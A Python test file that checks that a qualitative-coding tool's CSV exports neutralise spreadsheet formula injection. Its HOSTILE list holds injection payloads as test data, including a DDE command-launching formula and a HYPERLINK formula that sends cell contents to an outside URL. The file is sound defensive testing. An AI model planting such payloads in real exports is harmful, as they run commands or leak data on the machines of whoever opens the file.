"""Every CSV clusterqda writes keeps formulas from running in a spreadsheet (OWASP)."""

from __future__ import annotations

import csv
import io

import pandas as pd
from hypothesis import given
from hypothesis import strategies as st

from cli import app
from coding.common.csvfile import FORMULA_STARTS, neutralise, write_csv
from coding.export import write_tables

HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org/?x="&A1,"点我")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


def _cells(path) -> list[str]:
    text = path.read_bytes().decode("utf-8-sig")
    return [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]


def _assert_safe(cells: list[str]) -> None:
    for c in cells:
        assert not c.startswith(FORMULA_STARTS), c


def test_neutralise_prefixes_only_formula_starts():
    assert neutralise("=1+1") == "'=1+1"
    assert neutralise("会长说=好") == "会长说=好"
    assert neutralise(-3) == -3  # numbers stay numbers
    assert neutralise(None) is None


@given(st.text(min_size=1, max_size=30))
def test_no_written_cell_starts_a_formula_and_text_survives(text):
    assert not str(neutralise(text)).startswith(FORMULA_STARTS)
    assert neutralise(text) in (text, "'" + text)


def test_write_csv_and_tables_neutralise_cells_and_headers(tmp_path):
    frame = pd.DataFrame({"=id": HOSTILE, "n": range(len(HOSTILE))})
    write_csv(frame, tmp_path / "a.csv")
    cells = _cells(tmp_path / "a.csv")
    _assert_safe(cells)
    assert "'=cmd|' /C calc'!A0" in cells and "'-2+3" in cells
    written = write_tables({"one": frame, "two": frame}, tmp_path / "t.csv")
    assert len(written) == 2
    for path in written:
        _assert_safe(_cells(path))


def test_export_units_and_code_table_are_formula_safe(runner, project, tmp_path):
    transcript = tmp_path / "t.txt"
    transcript.write_text(
        "---\nid: =HYPERLINK(1)\ncluster: '@集群'\n---\n"
        + "".join(f"问：{h}\n答：{h}我们协会组织大家去参展。\n" for h in HOSTILE),
        encoding="utf-8",
    )
    result = runner.invoke(app, ["ingest", str(transcript), "--project", str(project)])
    assert result.exit_code == 0, result.output
    out = tmp_path / "units.csv"
    result = runner.invoke(app, ["export", "units", "--project", str(project), "--out", str(out)])
    assert result.exit_code == 0, result.output
    cells = _cells(out)
    _assert_safe(cells)
    assert "'=HYPERLINK(1)" in cells and "'@集群" in cells

    table = tmp_path / "answers.csv"
    pd.DataFrame({"编号": HOSTILE, "Q21": ["我们协会组织大家去参展，效果很好。"] * 8}).to_csv(
        table, index=False
    )
    coded = tmp_path / "coded.csv"
    result = runner.invoke(
        app,
        ["code-table", str(table), "--id-col", "编号", "--text-col", "Q21", "--out", str(coded)],
    )
    assert result.exit_code == 0, result.output
    cells = _cells(coded)
    _assert_safe(cells)
    assert "'=cmd|' /C calc'!A0" in cells
